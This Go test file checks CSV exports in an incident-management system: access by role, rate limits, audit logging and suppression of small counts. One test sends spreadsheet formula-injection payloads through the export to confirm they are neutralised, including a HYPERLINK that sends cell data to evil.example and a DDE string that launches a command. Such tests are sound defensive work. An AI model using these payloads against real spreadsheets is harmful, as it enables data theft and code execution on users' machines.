// SPDX-FileCopyrightText: The OneMap authors
// SPDX-License-Identifier: Apache-2.0

package app

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/paulmach/orb"

	"onemap/api"
	"onemap/auth"
	"onemap/geo/grid"
	"onemap/people"
	"onemap/store"
)

var because = "reason=" + url.QueryEscape("季度研判用")

// table reads a file as a spreadsheet does; the header apart.
func table(t *testing.T, a answer) (head []string, rows [][]string) {
	t.Helper()
	body, bom := bytes.CutPrefix(a.body, []byte("\ufeff"))
	if a.status != 200 || !bom {
		t.Fatalf("%d, byte order mark %t: %.300s", a.status, bom, a.body)
	}
	if n := bytes.Count(body, []byte("\n")); n != bytes.Count(body, []byte("\r\n")) {
		t.Errorf("lines that end without CR LF")
	}
	r := csv.NewReader(bytes.NewReader(body))
	all, err := r.ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("%v in %.300s", err, body)
	}
	return all[0], all[1:]
}

func column(rows [][]string, n int) []string {
	out := []string{}
	for _, r := range rows {
		out = append(out, r[n])
	}
	return out
}

func TestIncidentsAsAFile(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{})
	hall := st.token(auth.HallOperator, "")
	path := st.told(hall, "0301", 107.2, 38.3)
	west := st.told(hall, "0301", 107.2, 38.2)
	st.exec("UPDATE incident SET geom = ST_SetSRID(ST_MakePoint(-107.1234567, -8.5), 4326) WHERE id = $1", idOf(t, west))
	st.call("POST", "/api/v1/incidents", hall, `{"category":"0502","title":"只有地址","address":"某处"}`)
	a := st.get("/api/v1/exports/incidents.csv?"+because, hall)
	head, rows := table(t, a)
	if got := strings.Join(head, ","); got != "number,category,category_name,priority,state,grid,reported_at,ack_due,stage_due,closed_at,lon,lat,title,address,accuracy_m" {
		t.Errorf("header %s", got)
	}
	for name, want := range map[string]string{
		"Content-Type": "text/csv; charset=utf-8", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "sandbox", "Cache-Control": "no-store",
	} {
		if got := a.header.Values(name); len(got) != 1 || got[0] != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if d := a.header.Get("Content-Disposition"); !strings.HasPrefix(d, `attachment; filename="incidents-`) || !strings.HasSuffix(d, `.csv"`) {
		t.Errorf("disposition %s", d)
	}
	if n, err := strconv.Atoi(a.header.Get("X-Onemap-Seq")); err != nil || n < 0 {
		t.Errorf("seq %q", a.header.Get("X-Onemap-Seq"))
	}
	if len(rows) != 3 || holdsCanary(a) {
		t.Fatalf("%d rows: %s", len(rows), a.body)
	}
	in := st.get(path, hall).json(t)
	at, err := time.Parse(time.RFC3339, in["reported_at"].(string))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{in["number"].(string), "0301", "消防通道占堵", "2", in["state"].(string), "县/甲镇/甲一", people.Local(at).Format(time.DateTime)}
	if got := rows[2]; !slices.Equal(got[:7], want) || got[9] != "" || got[10] != "107.200000" || got[11] != "38.300000" || got[12] != "有人上报" || got[13] != "测试路1号" {
		t.Errorf("row %q, want %q ...", rows[2], want)
	}
	if got := rows[1]; got[10] != "-107.123457" || got[11] != "-8.500000" {
		t.Errorf("a place west and south: %q: numbers stay numbers", got)
	}
	if got := rows[0]; got[10] != "" || got[11] != "" || got[12] != "只有地址" {
		t.Errorf("without a place: %q", got)
	}
}

func TestAFileHoldsNoFormula(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{})
	hall := st.token(auth.HallOperator, "")
	guarded := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"点这里")`, "＝1+1", "+1", "＋1", "-1", "－1", "−1", "﹣2", "@SUM(A1:A9)", "＠SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx",
		"\u200b=1", " =1", "\u3000＝1", "\ufeff@x", "\u00a0\u200e-2+3", "\u034f=1", "\u2060 \u202e+1", "=cmd|' /C calc'!A0",
	}
	plain := []string{"消防通道占堵", "a=1", "1-2", "他说“好”", `"引号"，逗号,和"双"`, "第一行\n=第二行", "'=1", "３栋２单元", "(-1)", "·=", "a\tb", "结束 ", "\"\n=2"}
	texts := append(slices.Clone(guarded), plain...)
	for i, text := range texts {
		made := st.report(hall, 107.2, 38.2)
		id := idOf(t, made.header.Get("Location"))
		st.exec("UPDATE incident SET title = $2, address = $2, reported_at = $3 WHERE id = $1", id, text, time.Now().Add(-time.Duration(i)*time.Minute))
	}
	_, rows := table(t, st.get("/api/v1/exports/incidents.csv?"+because, hall))
	if len(rows) != len(texts) {
		t.Fatalf("%d rows, want %d", len(rows), len(texts))
	}
	asRead := strings.NewReplacer("\r\n", "\n", "\r", "") // what a reader of CSV makes of line ends within a cell
	for i, text := range texts {
		want := asRead.Replace(text)
		if i < len(guarded) {
			want = "'" + want
		}
		if rows[i][12] != want || rows[i][13] != want {
			t.Errorf("%q is told as %q and %q, want %q", text, rows[i][12], rows[i][13], want)
		}
	}
	for _, r := range rows {
		for _, c := range slices.Concat(r[:10], r[12:]) {
			if seen := strings.TrimLeft(c, " \t\r\n\u3000\u00a0\u200b\u200e\u2060\u202e\ufeff\u034f"); seen != "" && strings.ContainsAny(seen[:1], "=+-@") || strings.HasPrefix(c, "\t") {
				t.Errorf("a formula: %q", c)
			}
		}
	}
}

func TestAFileHoldsWhatTheListHolds(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{Limits: api.Limits{ExportsPerDay: 1000, ReadsPerSecond: 1000}})
	hall := st.sign(store.Credential{Role: auth.HallOperator})
	townA := st.token(auth.TownOperator, "A")
	handler := st.sign(store.Credential{Role: auth.DeptHandler, Department: 1})
	for i := range 40 {
		made := st.call("POST", "/api/v1/incidents", hall, fmt.Sprintf(`{"category":%q,"title":"第%d件","location":{"lon":%v,"lat":%v,"crs":"wgs84"}}`,
			[]string{"0301", "0502", "0102"}[i%3], i, 107.01+float64(i)*0.02, 38.1+float64(i%2)*0.2))
		id := idOf(t, made.header.Get("Location"))
		st.exec("UPDATE incident SET reported_at = $2 WHERE id = $1", id, time.Now().Add(-time.Duration(i)*time.Hour))
		if i%5 == 0 {
			st.close("id = $1", id)
			st.exec("UPDATE incident SET department_id = 1 WHERE id = $1", id)
		}
		if i%7 == 0 {
			st.exec("UPDATE incident SET stage_due = '2020-01-01' WHERE id = $1", id)
		}
	}
	for _, c := range []struct {
		token, filter string
		least         int
	}{
		{hall, "", 20},
		{hall, "&category=0301", 5},
		{hall, "&category=03", 5},
		{hall, "&grid=A1", 5},
		{hall, "&grid=B", 5},
		{hall, "&open=true", 5},
		{hall, "&open=false", 5},
		{hall, "&state=closed", 5},
		{hall, "&overdue=true", 2},
		{hall, "&overdue=false", 5},
		{hall, "&text=" + url.QueryEscape("第1"), 5},
		{hall, "&bbox=107,38,107.3,38.25", 3},
		{hall, "&from=" + url.QueryEscape(time.Now().Add(-9*time.Hour).Format(time.RFC3339)) + "&to=" + url.QueryEscape(time.Now().Add(-2*time.Hour).Format(time.RFC3339)), 3},
		{hall, "&grid=A&open=true&category=0502", 1},
		{hall, "&text=nothing", 0},
		{townA, "", 10},
		{handler, "", 5},
		{st.sign(store.Credential{Role: auth.HallOperator, Sensitive: true}), "", 40},
	} {
		var list struct{ Items []struct{ Number string } }
		if err := json.Unmarshal(st.get("/api/v1/incidents?limit=200"+c.filter, c.token).body, &list); err != nil {
			t.Fatal(err)
		}
		want := []string{}
		for _, i := range list.Items {
			want = append(want, i.Number)
		}
		_, rows := table(t, st.get("/api/v1/exports/incidents.csv?"+because+c.filter, c.token))
		if got := column(rows, 0); !slices.Equal(got, want) || len(got) < c.least {
			t.Errorf("filter %q: the file has %d, the list %d, want %d at least", c.filter, len(got), len(want), c.least)
		}
	}
	if n := st.count("SELECT count(*) FROM audit_log WHERE action = 'export.rows' AND data::text LIKE '%第1%'"); n != 0 {
		t.Error("the audit log has what was searched for")
	}
	if n := st.count(`SELECT count(*) FROM audit_log WHERE action = 'export.rows' AND data -> 'filter' @> '{"grid": "A", "open": "true", "category": "0502"}' AND (data ->> 'rows')::int > 0 AND reason = '季度研判用'`); n != 1 {
		t.Errorf("the filter and its rows are written down %d times", n)
	}
}

func TestWhoMayHaveAFile(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{})
	st.told(st.token(auth.HallOperator, ""), "0301", 107.2, 38.2)
	days := "&from=2026-01-05&to=2026-01-12"
	for role, want := range map[auth.Role][2]int{
		auth.HallOperator: {200, 200}, auth.Dispatcher: {200, 200}, auth.TownOperator: {200, 200}, auth.CountyLeader: {403, 200},
		auth.DeptHandler: {200, 200}, auth.VillageHead: {403, 403}, auth.GridWorker: {403, 403}, auth.Auditor: {403, 403}, auth.Wall: {403, 403},
		auth.SystemAdmin: {403, 403}, auth.SecurityAdmin: {403, 403},
	} {
		c := store.Credential{Role: role}
		if role == auth.DeptHandler {
			c.Department = 1
		}
		who := st.sign(c)
		for i, path := range []string{"/api/v1/exports/incidents.csv?", "/api/v1/exports/figures.csv?"} {
			if a := st.get(path+because+[]string{"", days}[i], who); a.status != want[i] || holdsCanary(a) {
				t.Errorf("%s, %s: %d %.200s", role, path, a.status, a.body)
			}
			for _, why := range []string{"", "reason=abc", "reason=%20%20%20%20%20"} {
				if a := st.get(path+why+[]string{"", days}[i], who); want[i] == 200 && a.status != 422 {
					t.Errorf("%s, %s with %q: %d %.200s", role, path, why, a.status, a.body)
				}
			}
		}
	}
	if n := st.count("SELECT count(*) FROM audit_log WHERE action LIKE 'export.%'"); n != 9 {
		t.Errorf("%d rows, want 9", n)
	}
}

func TestFilesHaveLimits(t *testing.T) {
	t.Parallel()
	clock := &testClock{at: time.Now()}
	st := newStandWith(t, Options{Now: clock.now, Limits: api.Limits{ExportRows: 4, ReadsPerSecond: 1000}})
	hall := st.sign(store.Credential{Role: auth.HallOperator})
	leader := st.sign(store.Credential{Role: auth.CountyLeader})
	for range 4 {
		st.report(hall, 107.2, 38.2)
	}
	rows, figures := "/api/v1/exports/incidents.csv?"+because, "/api/v1/exports/figures.csv?from=2026-01-05&to=2026-01-12&"+because
	if _, got := table(t, st.get(rows, hall)); len(got) != 4 {
		t.Errorf("%d rows, want 4", len(got))
	}
	st.report(hall, 107.2, 38.3)
	st.report(hall, 107.2, 38.3)
	a := st.get(rows, hall)
	if a.status != 422 || !strings.Contains(string(a.body), "6 incidents") || !strings.Contains(string(a.body), "shorter period") || strings.Contains(string(a.body), "消防") {
		t.Errorf("too many rows: %d %s", a.status, a.body)
	}
	for i := range 4 {
		if a := st.get(rows+"&grid=A2", hall); a.status != 200 {
			t.Fatalf("file %d: %d %s", i+2, a.status, a.body)
		}
	}
	for _, path := range []string{rows + "&grid=A1", rows} {
		if a := st.get(path, hall); a.status != 429 || a.header.Get("Retry-After") == "" || bytes.Contains(a.body, []byte("消防")) {
			t.Errorf("a sixth file: %d %s", a.status, a.body)
		}
	}
	for i := range 6 {
		if a := st.get(figures, leader); (a.status == 200) != (i < 5) || i == 5 && a.status != 429 {
			t.Errorf("count %d: %d %s", i+1, a.status, a.body)
		}
	}
	for action, want := range map[string]int{"export.rows": 5, "export.rows.refused": 2, "export.counts": 5, "export.counts.refused": 1} {
		if n := st.count("SELECT count(*) FROM audit_log WHERE action = $1", action); n != want {
			t.Errorf("%d rows %s, want %d", n, action, want)
		}
	}
	clock.move(24 * time.Hour)
	for path, who := range map[string]string{rows + "&grid=A1": hall, figures: leader} {
		if a := st.get(path, who); a.status != 200 {
			t.Errorf("the next day: %d %s", a.status, a.body)
		}
	}
}

func TestCountsAreOfWholeWeeksThatAreOver(t *testing.T) {
	t.Parallel()
	noon := people.Local(time.Date(2026, 3, 20, 4, 0, 0, 0, time.UTC))
	st := newStandWith(t, Options{Now: func() time.Time { return noon }})
	leader := st.token(auth.CountyLeader, "")
	for days, want := range map[string]int{
		"from=2026-03-09&to=2026-03-16": 200, "from=2025-01-06&to=2026-01-05": 200, "from=2026-03-08&to=2026-03-16": 422, "from=2026-03-09&to=2026-03-17": 422,
		"from=2026-03-16&to=2026-03-09": 422, "from=2026-03-09&to=2026-03-09": 422, "from=2026-03-16&to=2026-03-23": 422,
		"from=2026-03-09": 400, "from=2026-03-09T00:00:00Z&to=2026-03-16T00:00:00Z": 400, "from=2026-02-30&to=2026-03-16": 400,
	} {
		if a := st.get("/api/v1/exports/figures.csv?"+because+"&"+days, leader); a.status != want {
			t.Errorf("%s: %d %s", days, a.status, a.body)
		}
	}
}

// node is a line of figures.csv.
type node struct {
	level, parent, code string
	n                   int
	merged              bool
}

// figuresOf reads a table of figures.csv: what is told, and the rest by the code
// of whom it is of.
func figuresOf(t *testing.T, rows [][]string, what string) (total string, nodes []node, rest map[string]int) {
	t.Helper()
	rest = map[string]int{}
	for _, r := range rows {
		if r[0] != what {
			continue
		}
		n, err := strconv.Atoi(r[5])
		switch {
		case r[4] == "合计":
			total = r[5]
			continue
		case r[4] == "其余":
			rest[r[2]] = n
		case r[5] == "并入其余":
			nodes = append(nodes, node{level: r[1], parent: r[2], code: r[3], merged: true})
			continue
		default:
			nodes = append(nodes, node{level: r[1], parent: r[2], code: r[3], n: n})
		}
		if err != nil {
			t.Errorf("%q is no number", r)
		}
	}
	return total, nodes, rest
}

// differences returns every number that a reader of a table can work out by
// taking told parts off a told whole.
func differences(total int, nodes []node) (out []int) {
	inside := func(n node, code string) bool { // within the node with this code; all are within the total
		for code != "" && n.parent != code {
			i := slices.IndexFunc(nodes, func(p node) bool { return p.code == n.parent })
			if i < 0 {
				return false
			}
			n = nodes[i]
		}
		return true
	}
	for _, whole := range append([]node{{n: total}}, nodes...) {
		if whole.merged {
			continue
		}
		var parts []node
		for _, n := range nodes {
			if !n.merged && n.code != whole.code && inside(n, whole.code) {
				parts = append(parts, n)
			}
		}
		for set := range 1 << len(parts) {
			left, apart := whole.n, true
			for i, p := range parts {
				if set>>i&1 == 0 {
					continue
				}
				left -= p.n
				for j, q := range parts {
					apart = apart && (j == i || set>>j&1 == 0 || !inside(q, p.code))
				}
			}
			if apart {
				out = append(out, left)
			}
		}
	}
	return out
}

// copies makes n more incidents like the one with this id, reported at a time.
func (st *stand) copies(id int64, category string, at time.Time, n int) {
	st.t.Helper()
	st.exec(`WITH made AS (INSERT INTO incident (state, category, priority, title, source, geom, raw_lon, raw_lat, raw_datum, place, grid_id, grid_no, cell6, cell7, cell8, cell9, owner_level, reported_at)
		SELECT state, $2, priority, title, source, geom, raw_lon, raw_lat, raw_datum, place, grid_id, grid_no, cell6, cell7, cell8, cell9, owner_level, $3::timestamptz + k * interval '1 h'
		FROM incident, generate_series(1, $4::int) k WHERE id = $1 RETURNING id, owner_level, reported_at)
		INSERT INTO incident_stage (incident_id, n, level, started_at) SELECT id, 1, owner_level, reported_at FROM made`, id, category, at, n)
}

func TestNoSmallNumberLeavesInFigures(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{Limits: api.Limits{ExportsPerDay: 10_000, ReadsPerSecond: 10_000}})
	hall := st.sign(store.Credential{Role: auth.HallOperator, Sensitive: true})
	leader := st.sign(store.Credential{Role: auth.CountyLeader})
	townA := st.sign(store.Credential{Role: auth.TownOperator, GridCode: "A"})
	like := map[string]int64{} // one incident in each grid, and one outside them
	for code, at := range map[string][2]float64{"A1": {107.2, 38.3}, "A2": {107.2, 38.2}, "B1": {107.7, 38.3}, "B2": {107.7, 38.2}, "": {106, 38.2}} {
		like[code] = idOf(t, st.report(hall, at[0], at[1]).header.Get("Location"))
	}
	within := map[string][]string{"": {"", "A1", "A2", "B1", "B2"}, "A": {"A1", "A2"}, "B": {"B1", "B2"}, "A1": {"A1"}, "A2": {"A2"}, "B1": {"B1"}, "B2": {"B2"}}
	rounds := 30
	if soak() {
		rounds = 500
	}
	r := rand.New(rand.NewPCG(1, 2))
	monday := time.Date(2025, 12, 29, 0, 0, 0, 0, people.Local(time.Now()).Location())
	said := map[string]int{}
	for round := range rounds {
		from := monday.AddDate(0, 0, -7*round)
		truth, tops := map[string]int{}, map[string]int{}
		for _, code := range slices.Sorted(maps.Keys(like)) { // in order: each round is the same each time
			for _, category := range []string{"0301", "0502", "0102"} { // the last is sensitive
				n := []int{0, r.IntN(3), r.IntN(6), r.IntN(12), r.IntN(40)}[r.IntN(5)]
				if round == 0 { // a county and a town with too few
					n = map[string]int{"A10301": 3}[code+category]
				}
				st.copies(like[code], category, from, n)
				if category != "0102" {
					truth[code] += n
					tops[category[:2]] += n
				}
			}
		}
		sum := func(codes []string) (n int) {
			for _, c := range codes {
				n += truth[c]
			}
			return n
		}
		path := "/api/v1/exports/figures.csv?" + because + "&from=" + from.Format(time.DateOnly) + "&to=" + from.AddDate(0, 0, 7).Format(time.DateOnly)
		for who, c := range map[string]struct {
			token string
			all   []string
			tops  map[string]int
		}{"leader": {leader, within[""], tops}, "town": {townA, within["A"], nil}, "hall": {hall, within[""], tops}} {
			head, rows := table(t, st.get(path, c.token))
			if !slices.Equal(head, []string{"table", "level", "parent", "code", "name", "reported"}) {
				t.Fatalf("header %q", head)
			}
			for _, what := range []string{"grid", "category"} {
				total, nodes, rest := figuresOf(t, rows, what)
				fail := func(format string, args ...any) {
					t.Helper()
					t.Fatalf("round %d, %s, %s: %s\ntruth %v %v\nfile %q", round, who, what, fmt.Sprintf(format, args...), truth, tops, rows)
				}
				all := sum(c.all)
				if all > 0 && all < auth.K {
					if total != "少于5" || len(nodes) != 0 || len(rest) != 0 {
						fail("a total of %d is told as %q with %v %v", all, total, nodes, rest)
					}
					said["少于5"]++
					continue
				}
				if total != strconv.Itoa(all) {
					fail("the total is told as %q", total)
				}
				sums := map[string]int{}
				for _, n := range nodes {
					want := sum(within[n.code])
					if what == "category" {
						want = c.tops[n.code]
					}
					if n.merged {
						said["并入其余"]++
						continue
					}
					if (what == "grid" || c.tops != nil) && n.n != want || n.n > 0 && n.n < auth.K {
						fail("%s is told as %d of %d", n.code, n.n, want)
					}
					said["a number"]++
					sums[n.parent] += n.n
				}
				for code, n := range rest {
					whole := all
					if code != "" {
						whole = sum(within[code])
					}
					if n < auth.K || n != whole-sums[code] {
						fail("the rest of %q is %d", code, n)
					}
					said["其余"]++
				}
				for _, n := range differences(all, nodes) {
					if n < 0 || n > 0 && n < auth.K {
						fail("%d can be worked out", n)
					}
				}
				want := 6
				if who == "town" {
					want = 3
				}
				if what == "grid" && len(nodes) != want {
					fail("%d grids, want all %d, whether anything was there or not", len(nodes), want)
				}
			}
		}
	}
	for _, word := range []string{"少于5", "并入其余", "其余", "a number"} {
		if said[word] == 0 {
			t.Errorf("no file says %s: %v", word, said)
		}
	}
	t.Logf("%d files said %v", 3*rounds, said)
	if n := st.count("SELECT count(*) FROM audit_log WHERE action = 'export.counts' AND reason = '季度研判用' AND data ? 'from' AND data ? 'to'"); n != 3*rounds {
		t.Errorf("%d rows, want %d", n, 3*rounds)
	}
}

func TestFiguresCountFormerGridsWhereTheirCodesStandNow(t *testing.T) {
	t.Parallel()
	st := newStandWith(t, Options{})
	leader := st.token(auth.CountyLeader, "")
	hall := st.token(auth.HallOperator, "")
	at := time.Date(2026, 1, 6, 4, 0, 0, 0, time.UTC)
	st.copies(idOf(t, st.report(hall, 107.2, 38.3).header.Get("Location")), "0301", at, 6) // A1
	st.copies(idOf(t, st.report(hall, 107.7, 38.3).header.Get("Location")), "0301", at, 7) // B1
	st.close("true")
	// The tree becomes history: in the new one B1 has another code.
	square := func(x0, y0, x1, y1 float64) orb.MultiPolygon {
		return orb.MultiPolygon{{{{x0, y0}, {x1, y0}, {x1, y1}, {x0, y1}, {x0, y0}}}}
	}
	version, err := st.s.db.SaveDraft(t.Context(), []grid.Draft{
		{Code: "C", Level: 1, Name: "县", Geom: orb.MultiPolygon{{{{107, 38}, {107.5, 38}, {108, 38}, {108, 38.25}, {108, 38.5}, {107.5, 38.5}, {107, 38.5}, {107, 38}}}}},
		{Code: "A", Parent: "C", Level: 2, Name: "甲镇", Geom: square(107, 38, 107.5, 38.5)},
		{Code: "A1", Parent: "A", Level: 3, Name: "甲一", Geom: square(107, 38, 107.5, 38.5)},
		{Code: "B", Parent: "C", Level: 2, Name: "乙镇", Geom: square(107.5, 38, 108, 38.5)},
		{Code: "B9", Parent: "B", Level: 3, Name: "乙九", Geom: square(107.5, 38.25, 108, 38.5)},
		{Code: "B2", Parent: "B", Level: 3, Name: "乙二", Geom: square(107.5, 38, 108, 38.25)},
	}, true, "test")
	if err == nil {
		err = st.s.db.Enact(t.Context(), version)
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := st.s.catalogue.Reload(t.Context()); err != nil {
		t.Fatal(err)
	}
	_, rows := table(t, st.get("/api/v1/exports/figures.csv?"+because+"&from=2026-01-05&to=2026-01-12", leader))
	total, nodes, rest := figuresOf(t, rows, "grid")
	got := map[string]int{}
	for _, n := range nodes {
		got[n.code] = n.n
	}
	if total != "13" || got["A"] != 6 || got["A1"] != 6 || got["B"] != 7 || rest["B"] != 7 || got["B9"] != 0 || len(nodes) != 5 {
		t.Errorf("%q", rows)
	}
}
